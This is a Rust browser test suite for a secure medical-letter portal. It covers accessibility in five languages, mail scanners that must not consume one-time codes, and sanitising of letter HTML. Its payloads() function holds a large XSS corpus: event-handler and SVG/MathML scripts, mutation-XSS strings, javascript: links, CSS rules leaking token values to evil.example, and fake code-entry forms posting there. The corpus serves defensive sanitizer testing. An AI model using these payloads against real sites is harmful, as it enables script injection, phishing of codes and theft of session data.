//! The pages in a real browser: headless Chromium, driven by the scripts of `tests/browser` through playwright-core,
//! every page looked at by axe-core.
//!
//! Needs node, the npm libraries of these names in a folder that `PLI_NODE_MODULES` names, and `chromium` (or the program
//! that `PLI_CHROMIUM` names); without them a test says that it is skipped, and with `PLI_TEST_ALL=1` fails. What a
//! browser shows does not depend on the database: SQLite alone. `PLI_SCREENSHOTS` names a folder for pictures.

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use data_encoding::BASE64;
use pli::domain::{Clock as _, DeliveryState, FolderRole};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::process::Command;

use crate::letters;
use crate::world::{JEANNE, NOW, World};

/// Every state that a person can come to: no violation of WCAG 2.2 AA, nothing beside the window, light enough.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_state_is_accessible_in_five_languages() {
    let Some(chromium) = chromium() else { return };
    let world = World::sqlite().await;
    let given = json!({ "languages": ["fr", "en", "it", "es", "ru"], "windows": ["fr"] });
    assert_eq!(play(&world, &chromium, "states.js", given).await, 5 * 41, "pages were looked at");
    world.running.stop().await;
}

/// The sheet holds the states that no test can bring about, such as a virus found.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_page_of_the_sheet_is_accessible() {
    let Some(chromium) = chromium() else { return };
    let folder = tempfile::tempdir().unwrap();
    let sheet = folder.path().join("sheet");
    let written = std::process::Command::new(env!("CARGO_BIN_EXE_pli")).args(["demo", "--sheet"]).arg(&sheet).output();
    let written = written.unwrap();
    assert!(written.status.success(), "{}", String::from_utf8_lossy(&written.stderr));
    let world = World::sqlite().await;
    let given = json!({ "folder": sheet, "windows": ["fr"] });
    assert!(play(&world, &chromium, "sheet.js", given).await > 250);
    world.running.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_whole_journey_goes_by_keyboard_alone_and_without_script() {
    let Some(chromium) = chromium() else { return };
    let world = World::sqlite().await;
    play(&world, &chromium, "keyboard.js", json!({})).await;
    world.running.stop().await;
}

/// yopass#3961: scanners in three places load and press everything. No code leaves, no try is spent, nothing is called
/// opened; the journal tells them from the person who comes after.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn fault_14_a_scanner_in_a_real_browser_changes_nothing() {
    let Some(chromium) = chromium() else { return };
    let world = World::sqlite().await;
    play(&world, &chromium, "scanner.js", json!({})).await;
    let opened = world.state(DeliveryState::Opened).await;
    assert_eq!(opened.tries, 0, "no try was spent on the way");
    assert_eq!(world.read(&world.doctor, FolderRole::Inbox).await.len(), 1, "one opening is told: the person's");
    let journal = world.journal().await;
    for (verb, times) in [("code.issued", 2), ("code.accepted", 1), ("delivery.opened", 1)] {
        let found = journal.iter().filter(|line| line.contains(verb)).count();
        assert_eq!(found, times, "{verb} in {journal:#?}");
    }
    // A scanner that drives a browser shows itself as one, and as no more: what proves a person is the code.
    let told = |line: &String| {
        let verb = line.split(' ').find_map(|pair| pair.strip_prefix("verb=")).unwrap().to_owned();
        let of = ["link.", "code.issued", "code.accepted", "delivery.opened"];
        of.iter().any(|of| verb.starts_with(of)).then_some(verb)
    };
    let told: Vec<String> = journal.iter().filter_map(told).collect();
    let scanned = ["link.fetched", "link.loaded", "link.shown", "link.pressed", "code.issued"];
    let person = ["link.shown", "code.issued", "code.accepted", "delivery.opened"];
    assert_eq!(told, [&scanned[..], &person].concat());
    let end = journal.iter().position(|line| line.contains("code.accepted")).unwrap();
    assert!(journal.iter().position(|line| line.contains("delivery.opened")).unwrap() > end, "opened behind a code");
    world.running.stop().await;
}

/// RUSTSEC-2025-0071, 2026-0193, 2026-0213: what is reduced stays harmless when a real browser parses it again.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn fault_31_html_of_a_letter_runs_and_loads_nothing() {
    let Some(chromium) = chromium() else { return };
    let world = World::sqlite().await;
    play(&world, &chromium, "hostile.js", json!({ "payloads": payloads() })).await;
    world.running.stop().await;
}

/// The browser, where everything is there.
fn chromium() -> Option<PathBuf> {
    let modules = std::env::var("PLI_NODE_MODULES").unwrap_or_default();
    let modules = Path::new(&modules);
    let named = std::env::var_os("PLI_CHROMIUM").map(PathBuf::from);
    let places = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].map(PathBuf::from);
    let places = named.map_or(places.to_vec(), |named| vec![named]);
    let browser = places.into_iter().find(|place| place.is_file());
    let missing = match &browser {
        None => "the browser chromium is not there (PLI_CHROMIUM)",
        Some(_) if !["playwright-core", "axe-core"].iter().all(|name| modules.join(name).is_dir()) => {
            "the npm libraries playwright-core and axe-core are not there (PLI_NODE_MODULES)"
        }
        Some(_) => return browser,
    };
    assert!(std::env::var_os("PLI_TEST_ALL").is_none_or(|all| all != "1"), "{missing}");
    std::io::stderr().write_all(format!("SKIPPED: {missing}\n").as_bytes()).unwrap();
    None
}

/// Lets a script play, answers what it asks, and stops at what it found wrong; how many pages it looked at.
async fn play(world: &World, chromium: &Path, script: &str, mut given: Value) -> u64 {
    world.add_patient(JEANNE, "06 12 34 56 78").await;
    crate::logo::set(world, world.practice, pli::portal::SAMPLE_LOGO).await;
    let port = world.running.portal.unwrap().port();
    given["origin"] = json!(format!("https://127.0.0.1:{port}"));
    given["chromium"] = json!(chromium);
    let mut child = Command::new("node")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser").join(script))
        .arg(given.to_string())
        .env("NODE_PATH", std::env::var("PLI_NODE_MODULES").unwrap())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut answers = child.stdin.take().unwrap();
    let mut asked = BufReader::new(child.stdout.take().unwrap()).lines();
    loop {
        let line = tokio::time::timeout(Duration::from_secs(120), asked.next_line()).await;
        let line = line.expect("it goes on").unwrap().expect("it comes to its end");
        let asked: Value = serde_json::from_str(&line).unwrap();
        if asked.get("looking").is_some() {
            continue;
        }
        if let Some(done) = asked.get("done") {
            let faults: Vec<&str> = done["faults"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
            assert!(faults.is_empty(), "{} faults:\n{}", faults.len(), faults.join("\n"));
            return done["looked"].as_u64().unwrap();
        }
        let answer = answer(world, &asked).await;
        answers.write_all(format!("{answer}\n").as_bytes()).await.unwrap();
    }
}

async fn answer(world: &World, asked: &Value) -> Value {
    match asked["ask"].as_str().unwrap() {
        "letter" => {
            let before = world.relay.caught().len();
            let octets = letter(asked["kind"].as_str().unwrap(), asked["html"].as_str().unwrap_or_default());
            world.submit(&[JEANNE], &octets).await.unwrap();
            json!({ "link": world.notices(before + 1).await.pop().unwrap().link() })
        }
        "code" => json!({ "code": world.gateway.last().code() }),
        "pass" => {
            world.pass(Duration::from_secs(asked["seconds"].as_u64().unwrap()));
            json!({})
        }
        // The next nine o'clock in Paris.
        "morning" => {
            let of_the_day = world.clock.now().0.rem_euclid(DAY) - NOW.0.rem_euclid(DAY);
            world.pass(Duration::from_millis(u64::try_from(DAY - of_the_day).unwrap()));
            json!({})
        }
        "gateway" => {
            world.gateway.answer(u16::try_from(asked["status"].as_u64().unwrap()).unwrap());
            json!({})
        }
        "remember" => {
            crate::remembered::allow(world, true).await;
            json!({})
        }
        "recall" => {
            let deliveries = &world.running.rooms.deliveries;
            deliveries.recall(deliveries.list(None, 1).await.unwrap().remove(0).id).await.unwrap();
            json!({})
        }
        "fetched" => {
            let journal = world.journal().await;
            let noted = |verb: &str| journal.iter().filter(|line| line.contains(verb)).count();
            let noted = ["link.fetched", "link.loaded", "link.shown"].map(noted);
            assert_eq!(noted, [1, 1, 0], "only machines came: {journal:#?}");
            json!({})
        }
        scanned @ ("scanned" | "scanned-boldly") => {
            let sent = world.gateway.caught().len();
            assert_eq!(sent, usize::from(scanned == "scanned-boldly"), "a press without a choice sends nothing");
            let shown = world.state(DeliveryState::Notified).await;
            assert_eq!((shown.tries, shown.opened_at), (0, None), "no try is spent, and nothing is called opened");
            assert!(world.read(&world.doctor, FolderRole::Inbox).await.is_empty(), "nor told");
            assert!(world.journal().await.iter().all(|line| !line.contains("delivery.opened")), "nor written down");
            json!({})
        }
        other => panic!("a script asks for {other}"),
    }
}

/// A day in milliseconds.
const DAY: i64 = 86_400_000;

fn letter(kind: &str, html: &str) -> Vec<u8> {
    match kind {
        "plain" => letters::plain(JEANNE, "Suite"),
        "files" => letters::thunderbird(JEANNE, "Votre ordonnance", &letters::pdf(90_000)),
        "pictures" => letters::photograph(JEANNE, "Une photo", &PIXEL),
        "bare" => format!("From: dr.martin@cabinet.example\r\nTo: {JEANNE}\r\n\r\n").into_bytes(),
        "html" => of_html("Vos résultats", OFFICE),
        "hostile" => of_html("Hostile", html),
        other => panic!("a script asks for a letter of {other}"),
    }
}

/// As Outlook writes it: HTML, and a picture that stands in it.
fn of_html(subject: &str, html: &str) -> Vec<u8> {
    let lines = |octets: &[u8]| {
        let encoded = BASE64.encode(octets);
        let lines: Vec<&str> = encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
        lines.join("\r\n")
    };
    format!(
        "From: Dr Claire Martin <dr.martin@cabinet.example>\r\nTo: {JEANNE}\r\n\
         Subject: =?utf-8?B?{}?=\r\nDate: Fri, 15 Jan 2027 08:00:00 +0100\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --b\r\nContent-Type: image/png; name=logo.png\r\nContent-Id: <logo>\r\nContent-Disposition: inline\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
        BASE64.encode(subject.as_bytes()),
        lines(html.as_bytes()),
        lines(&PIXEL),
    )
    .into_bytes()
}

/// A table wider than a telephone, a quoted letter, headings, a list, an address that does not break.
const OFFICE: &str = "<html><head><style>p.MsoNormal {margin:0}</style></head><body lang=FR>\
    <h1>Vos résultats</h1><p class=MsoNormal>Chère Madame,<o:p></o:p></p>\
    <table border=1><tr><th>Examen</th><th>Résultat</th><th>Unité</th><th>Valeurs de référence</th><th>Antériorité</th></tr>\
    <tr><td>Hémoglobine&nbsp;glyquée</td><td>6,1</td><td>%</td><td>4,0&nbsp;–&nbsp;6,0</td><td>6,3</td></tr>\
    <tr><td>Cholestérol&nbsp;LDL</td><td>1,12</td><td>g/L</td><td>inférieur&nbsp;à&nbsp;1,60</td><td>1,41</td></tr></table>\
    <ul><li>Continuez le traitement.</li><li>Revenez dans <b>trois mois</b>.</li></ul>\
    <p><img src=\"cid:logo\" alt=\"Cabinet du Port\"> <a href=\"https://labo.example/un/chemin/qui/ne/se/coupe/nulle/part/0123456789\">\
    le laboratoire</a></p><blockquote><p>Le 3 janvier, vous écriviez :</p><p>Faut-il revenir ?</p></blockquote>\
    <pre>  Dr Claire Martin     01 99 00 12 34     Cabinet du Port, quai Antoine-Ier</pre></body></html>";

/// A PNG of one pixel.
const PIXEL: [u8; 69] = [
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8,
    2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde, 0, 0, 0, 0x0c, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xe0, 0x0e, 0x4d, 6,
    0, 1, 0x32, 0, 0xc4, 0x5e, 0x44, 0xf9, 0xaa, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

/// HTML that runs, loads, leads away or takes the page over where it is let: each kind once at least, several in a
/// letter, since each is reduced by itself.
fn payloads() -> Vec<String> {
    let run = "pliRan('html')";
    let far = "https://evil.example/x";
    let letters: [&[&str]; 9] = [
        // Scripts, by every door.
        &[
            "<script>RUN</script><script src=FAR></script><script type=module>RUN</script>",
            "<scr<script>ipt>RUN</scr</script>ipt><SCRIPT\n>RUN</SCRIPT\n>",
            "<img src=x onerror=RUN><img src=cid:logo onload=RUN><img/src=x/onerror=RUN>",
            "<body onload=RUN onpageshow=RUN><p onmouseover=RUN onclick=RUN onfocus=RUN tabindex=1 autofocus>Touchez</p>",
            "<details open ontoggle=RUN><summary onclick=RUN>Plus</summary></details><marquee onstart=RUN>x</marquee>",
            "<input autofocus onfocus=RUN><select onfocus=RUN autofocus><textarea onfocus=RUN autofocus></textarea></select>",
            "<video src=x onerror=RUN><source onerror=RUN></video><audio src onerror=RUN></audio>",
            "<div style=\"animation-name:x\" onanimationstart=RUN><div onpointerenter=RUN oncontentvisibilityautostatechange=RUN>",
        ],
        // SVG and MathML.
        &[
            "<svg onload=RUN><script>RUN</script><a xlink:href=\"javascript:RUN\"><text y=20>Touchez</text></a></svg>",
            "<svg><animate onbegin=RUN attributeName=x dur=1s></svg><svg><set onbegin=RUN attributeName=x></svg>",
            "<svg><foreignObject><body onload=RUN><iframe srcdoc=\"<script>parent.RUN</script>\"></foreignObject></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x\"></svg>",
            "<math><maction actiontype=statusline xlink:href=\"javascript:RUN\">Touchez</maction></math>",
        ],
        // Mutations (mXSS): harmless when parsed once, not when parsed again.
        &[
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
            "<noembed><img title=\"</noembed><img src onerror=RUN>\"></noembed><xmp><img title=\"</xmp><img src onerror=RUN>\"></xmp>",
            "<math><annotation-xml encoding=\"text/html\"><p><style><img src=1 onerror=RUN></style></annotation-xml></math>",
            "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=RUN>\">x</a>",
            "<svg><title><![CDATA[</title><img src=x onerror=RUN>]]></title></svg><textarea><img title=\"</textarea><img src onerror=RUN>\">",
            "<table><td><svg><desc><td></desc><style><img src=x onerror=RUN></style></svg></table>",
        ],
        // Links that are none.
        &[
            "<a href=\"javascript:RUN\">Touchez</a><a href=\"JaVaScRiPt:RUN\">Touchez</a><a href=\"java\tscript:RUN\">Touchez</a>",
            "<a href=\"&#1;javascript:RUN\">Touchez</a><a href=\"data:text/html,<script>RUN</script>\">Touchez</a>",
            "<a href=\"vbscript:RUN\">Touchez</a><a href=\"//evil.example\">Touchez</a><a href=\"/letter/close\">Touchez</a>",
            "<area href=\"javascript:RUN\"><map name=m><area shape=default href=FAR></map><img usemap=#m src=cid:logo>",
            "<a href=FAR target=_blank ping=FAR>Touchez</a><a href=\"blob:FAR\">Touchez</a>",
        ],
        // Whatever loads.
        &[
            "<img src=FAR srcset=\"FAR 2x\"><picture><source srcset=FAR><img src=FAR></picture><input type=image src=FAR>",
            "<link rel=stylesheet href=FAR><link rel=prefetch href=FAR><link rel=dns-prefetch href=//evil.example>",
            "<style>@import 'FAR'; body{background:url(FAR)} @font-face{font-family:x;src:url(FAR)}</style>",
            "<div style=\"background:url(FAR)\">x</div><table background=FAR><td background=FAR>x</td></table>",
            "<video poster=FAR src=FAR></video><audio src=FAR autoplay></audio><track src=FAR><bgsound src=FAR>",
            "<iframe src=FAR></iframe><iframe srcdoc=\"<img src=FAR>\"></iframe><frameset><frame src=FAR></frameset>",
            "<object data=FAR><param name=movie value=FAR></object><embed src=FAR><applet code=FAR></applet>",
            "<svg><image href=FAR /><feImage href=FAR /><use href=\"FAR#a\"/></svg>",
        ],
        // What takes words out of the page by style alone.
        &[
            "<style>input[name=token][value^=a]{background:url(FAR?a)} * {list-style:url(FAR)}</style>",
            "<style>.session,.foot{display:none!important} .letter{position:fixed;inset:0;z-index:99;background:#fff}</style>",
            "<div style=\"position:fixed;inset:0;z-index:2147483647;background:#fff\">Cette lettre est close : rappelez le 0899</div>",
            "<p style=\"font-size:900px;margin:-9000px\">x</p><div class=banner id=error hidden>x</div>",
        ],
        // What leads away by itself.
        &[
            "<meta http-equiv=refresh content=\"0;url=FAR\"><meta http-equiv=set-cookie content=\"a=b\">",
            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\"><meta name=referrer content=unsafe-url>",
            "<base href=FAR><base target=_top><html manifest=FAR>",
            "<iframe src=\"javascript:top.location='FAR'\"></iframe><object data=\"javascript:RUN\"></object>",
        ],
        // What looks like ours.
        &[
            "<form action=FAR method=post><label>Votre code <input name=code></label><button>Ouvrir la lettre</button></form>",
            "</div></article></main><form action=/letter/close method=post><button>Continuer</button></form>",
            "<button form=x formaction=FAR>Touchez</button><input type=submit formaction=\"javascript:RUN\" value=Touchez>",
            "<div id=reply name=token class=alert role=alert>x</div><a id=defaultView name=cookie>x</a><img name=getElementById>",
            "<dialog open>Tapez votre code <input></dialog><p popover id=p>x</p><button popovertarget=p>Touchez</button>",
            "</article></main></body></html><!-- --><plaintext>tout ce qui suit",
        ],
        // Parsers led astray.
        &[
            "<!--><img src=x onerror=RUN>--><!--[if IE]><img src=x onerror=RUN><![endif]--><?php echo ?><img src=x onerror=RUN>",
            "<![CDATA[<img src=x onerror=RUN>]]><img src=\"x` `<script>RUN</script>\"` `><\u{0}script>RUN</script>",
            "<img \u{c}src=x\u{c}onerror=RUN><img src=x onerror\u{b}=RUN><a\u{a0}href=\"javascript:RUN\">Touchez</a>",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">RUN</x:script><p is=script>RUN</p><slot onslotchange=RUN>",
            "+ADw-script+AD4-RUN+ADw-/script+AD4- \u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
            "<div><template shadowrootmode=open><script>RUN</script><img src=x onerror=RUN></template></div>",
            "<isindex type=image src=1 onerror=RUN><keygen autofocus onfocus=RUN><portal src=FAR><fencedframe>",
        ],
    ];
    let written = letters.iter().map(|parts| format!("<p>Bonjour</p>{}", parts.join("\r\n")));
    let apart = letters[2].iter().map(|part| (*part).to_owned());
    written.chain(apart).map(|html| html.replace("RUN", run).replace("FAR", far)).collect()
}
